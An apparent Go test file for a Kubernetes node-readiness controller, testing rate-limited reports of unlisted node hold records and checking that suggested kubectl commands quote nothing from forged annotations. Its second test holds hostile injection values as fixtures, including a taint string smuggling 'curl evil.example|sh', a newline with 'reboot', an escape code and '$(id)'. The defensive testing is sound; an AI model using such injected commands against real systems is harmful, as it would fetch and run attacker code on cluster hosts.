package node

import (
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/readygate/readygate/api/node/v1alpha1"
	"github.com/readygate/readygate/internal/core/noderule"
)

// Each record is reported once, and again after it was removed and restored, or changed. One node causes at most one
// report in ten minutes. The number of nodes is always correct.
func TestUnlistedRecordsAreReported(t *testing.T) {
	const first, second = v1alpha1.HoldPrefix + "00000000-1111-2222-3333-555555555555", v1alpha1.HoldPrefix + "00000000-1111-2222-3333-666666666666"
	var u unlistedRecords
	now, nodes := time.Now(), 0.
	for i, step := range []struct {
		after   time.Duration
		records map[string]string
		news    bool
		nodes   float64
	}{
		{0, nil, false, 0},
		{0, map[string]string{first: "a"}, true, 1},
		{time.Hour, map[string]string{first: "a"}, false, 1},
		{0, map[string]string{first: "b"}, true, 1},
		{time.Minute, map[string]string{first: "b", second: "a"}, false, 1},
		{10 * time.Minute, map[string]string{first: "b", second: "a"}, true, 1},
		{time.Minute, nil, false, 0},
		{time.Minute, map[string]string{first: "b", second: "a"}, false, 1},
		{10 * time.Minute, map[string]string{first: "b", second: "a"}, true, 1},
		{time.Hour, map[string]string{first: "b", second: "c"}, true, 1},
		{time.Hour, nil, false, 0},
	} {
		now = now.Add(step.after)
		news, change := u.update(&noderule.Node{Name: "a", Annotations: step.records}, slices.Sorted(maps.Keys(step.records)), now)
		if nodes += change; news != step.news || nodes != step.nodes {
			t.Errorf("step %d: news is %v, want %v; %v nodes, want %v", i, news, step.news, nodes, step.nodes)
		}
	}
	if len(u.byNode) > 0 {
		t.Errorf("entries of a node without records: %v", u.byNode)
	}
	u.update(&noderule.Node{Name: "a"}, []string{first}, now)
	if change := u.forget("a") + u.forget("a"); change != -1 {
		t.Errorf("a deleted node changes the number by %v", change)
	}
}

// A user copies the commands of a report into a shell. A forged record must not add to them.
func TestTheReportQuotesNothingFromAForgedRecord(t *testing.T) {
	const key = v1alpha1.HoldPrefix + "00000000-1111-2222-3333-555555555555"
	annotate := "kubectl annotate node a " + key + "-"
	for name, c := range map[string]struct{ taint, want string }{
		"a valid taint":    {"readiness.k8s.io/net:NoSchedule", "kubectl taint node a readiness.k8s.io/net:NoSchedule-"},
		"shell characters": {"readiness.k8s.io/x; curl evil.example|sh #:NoSchedule", ""},
		"a newline":        {`readiness.k8s.io/x\nreboot:NoSchedule`, ""},
		"an escape code":   {`readiness.k8s.io/x\u001b[2K:NoSchedule`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			node := &noderule.Node{Name: "a", Annotations: map[string]string{key: `{"rule":"$(id)","taint":"` + c.taint + `","origin":"added"}`}}
			text := unlistedText(node, []string{key})
			if !strings.Contains(text, annotate) || !strings.Contains(text, c.want) {
				t.Errorf("a command is missing: %q", text)
			}
			if c.want == "" && !strings.HasSuffix(text, annotate) {
				t.Errorf("text of the record is in the report: %q", text)
			}
		})
	}
}
